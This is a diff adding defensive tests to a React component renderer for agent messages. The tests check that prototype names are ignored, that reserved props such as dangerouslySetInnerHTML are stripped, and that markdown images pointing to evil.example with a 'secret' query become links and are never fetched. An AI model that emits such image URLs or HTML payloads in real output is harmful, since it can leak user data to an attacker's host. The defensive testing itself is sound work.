@@ -6,6 +6,14 @@ function Stove({ name, status, isLoading }: { name: string; status: string; isLo
   return <b>{`${name} ${status} ${isLoading}`}</b>;
 }
 
+function Fragile({ amount }: { amount: string }) {
+  return <i>{amount.trim()}</i>;
+}
+
+function Open({ name: _, status: __, isLoading: ___, ...rest }: Record<string, unknown>) {
+  return <i {...rest} />;
+}
+
 describe("renderMessageContent", () => {
   const draw = (content: MessageContent) => render(<div>{renderMessageContent(content, { Stove })}</div>).container;
   const stove = (id: string, args: object) => ({
@@ -40,6 +48,41 @@ describe("renderMessageContent", () => {
     const box = draw(["Before", stove("1", { name: "Jiko" }), unknown, "After"]);
     expect(box.textContent).toBe("BeforeJiko done falseAfter");
     expect(draw(stove("2", { name: "Mbaula" })).textContent).toBe("Mbaula done false");
+  });
+
+  it("takes only the app's own names for components: what every object has is none", () => {
+    for (const name of ["constructor", "toString", "__proto__", "hasOwnProperty"]) {
+      for (const kind of [{}, { isToolCall: true }, { isAgAction: true }])
+        expect(draw([{ name, props: { id: name, args: {}, ...kind } }, "After"]).textContent).toBe("After");
+    }
+  });
+
+  it("keeps the thread when one component cannot draw what it was given, and draws it again with other arguments", () => {
+    const content = (amount: unknown): MessageContent => [
+      "Before",
+      { name: "Fragile", props: { id: "f", args: { amount } } },
+      "After",
+    ];
+    const { container, rerender } = render(<div>{renderMessageContent(content(5), { Fragile })}</div>);
+    expect(container.textContent).toBe("BeforeAfter");
+    rerender(<div>{renderMessageContent(content("5 "), { Fragile })}</div>);
+    expect(container.textContent).toBe("Before5After");
+  });
+
+  it("gives a component nothing that React would take for its own", () => {
+    const args = { ref: "r", key: "k", dangerouslySetInnerHTML: { __html: "<img src=x>" }, title: "t" };
+    const box = render(
+      <div>{renderMessageContent({ name: "Open", props: { id: "o", args } }, { Open })}</div>,
+    ).container;
+    expect(box.innerHTML).toBe('<div><i title="t" id="o"></i></div>');
+  });
+
+  it("fetches no picture that an agent names: it is a link that a person may open", () => {
+    const box = draw("![the stove](https://evil.example/?q=secret) ![](https://evil.example/pixel.png)");
+    expect(box.querySelector("img")).toBeNull();
+    const [named, blank] = screen.getAllByRole("link");
+    expect([named?.textContent, named?.getAttribute("href")]).toEqual(["the stove", "https://evil.example/?q=secret"]);
+    expect(blank?.textContent).toBe("https://evil.example/pixel.png");
   });
 
   it("does not let the agent's arguments stand for what the SDK says", () => {
